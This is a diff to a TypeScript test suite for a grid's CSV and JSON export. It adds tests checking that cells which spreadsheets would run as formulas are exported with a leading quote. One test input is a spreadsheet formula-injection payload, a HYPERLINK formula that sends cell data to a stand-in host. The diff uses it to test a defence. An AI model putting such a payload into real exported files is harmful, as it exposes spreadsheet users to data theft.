@@ -1,7 +1,8 @@
 import * as assert from 'node:assert/strict';
 import fc from 'fast-check';
-import { CSV, delimitedChunks, delimitedField, delimitedText, TSV } from '../../../src/core/grid/delimited';
+import { CSV, delimitedChunks, delimitedField, delimitedText, guardFormula, TSV } from '../../../src/core/grid/delimited';
 import { jsonChunks, jsonKeys } from '../../../src/core/grid/jsonExport';
+import type { ColumnKind } from '../../../src/core/grid/columnKinds';
 
 /** A small RFC 4180 reader, to prove what the writer wrote reads back the same. */
 function readCsv(text: string): (string | null)[][] {
@@ -63,7 +64,8 @@ describe('CSV export', () => {
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 20 }), (rows) => {
         const text = delimitedText({ names: ['a', 'b', 'c'], rows }, CSV);
-        assert.deepEqual(readCsv(text), [['a', 'b', 'c'], ...rows]);
+        const asSpreadsheetsRead = rows.map((row) => row.map((cell) => (cell === null || cell === '' ? cell : guardFormula(cell, 'text'))));
+        assert.deepEqual(readCsv(text), [['a', 'b', 'c'], ...asSpreadsheetsRead]);
       }),
     );
   });
@@ -115,5 +117,54 @@ describe('JSON export', () => {
         assert.deepEqual(parsed.map((o) => [o.a, o.b]), rows);
       }),
     );
+  });
+});
+
+describe('CSV export is safe to open in a spreadsheet', () => {
+  const csvOf = (rows: (string | null)[][], kinds?: ColumnKind[]): string => delimitedText({ names: ['a', 'b'], rows, kinds }, CSV);
+
+  it('writes cells that a spreadsheet would run as a formula with a leading quote, so they open as text', () => {
+    const text = csvOf([['=HYPERLINK("http://x.test/?"&A1,"Click")', '+1+2'], ['-2+3', '@SUM(A1)'], ['\t=1', '\r=1']]);
+    assert.deepEqual(readCsv(text).slice(1), [
+      ['\'=HYPERLINK("http://x.test/?"&A1,"Click")', "'+1+2"],
+      ["'-2+3", "'@SUM(A1)"],
+      ["'\t=1", "'\r=1"],
+    ]);
+  });
+
+  it('keeps plain negative numbers of numeric columns as numbers, and guards the same text in a text column', () => {
+    assert.equal(csvOf([['-12.5', '-12.5'], ['-3e5', '-1']], ['number', 'text']), 'a,b\r\n-12.5,\'-12.5\r\n-3e5,\'-1\r\n');
+    assert.equal(csvOf([['-1+1', '=1']], ['number', 'number']), "a,b\r\n'-1+1,'=1\r\n", 'only a number stays unguarded in a numeric column');
+  });
+
+  it('still writes NULL as nothing and an empty text as "" next to guarded cells', () => {
+    assert.deepEqual(readCsv(csvOf([[null, ''], ['=1', 'ok']])).slice(1), [[null, ''], ["'=1", 'ok']]);
+  });
+
+  it('leaves the clipboard copy exact (pasting is the user\'s own choice of cells)', () => {
+    assert.equal(delimitedText({ rows: [['=1', '-2']] }, TSV), '=1\t-2\n');
+  });
+});
+
+describe('JSON export of numeric columns', () => {
+  const jsonOf = (rows: (string | null)[][], kinds: ColumnKind[]): unknown[] => JSON.parse(Array.from(jsonChunks({ names: ['n', 'm'], rows, kinds })).join('')) as unknown[];
+
+  it('writes numbers of numeric columns as JSON numbers, and text columns as text', () => {
+    assert.deepEqual(jsonOf([['42', '42'], ['-1.5', '007'], [null, null]], ['number', 'text']), [
+      { n: 42, m: '42' },
+      { n: -1.5, m: '007' },
+      { n: null, m: null },
+    ]);
+  });
+
+  it('keeps integers beyond 2^53 and over-precise decimals as text so no digit is lost', () => {
+    assert.deepEqual(jsonOf([['9007199254740993', '18446744073709551615'], ['9007199254740991', '12345678901234567.891']], ['number', 'number']), [
+      { n: '9007199254740993', m: '18446744073709551615' },
+      { n: 9007199254740991, m: '12345678901234567.891' },
+    ]);
+  });
+
+  it('keeps what JSON cannot write as a number (nan, inf) as text', () => {
+    assert.deepEqual(jsonOf([['nan', '-inf']], ['number', 'number']), [{ n: 'nan', m: '-inf' }]);
   });
 });
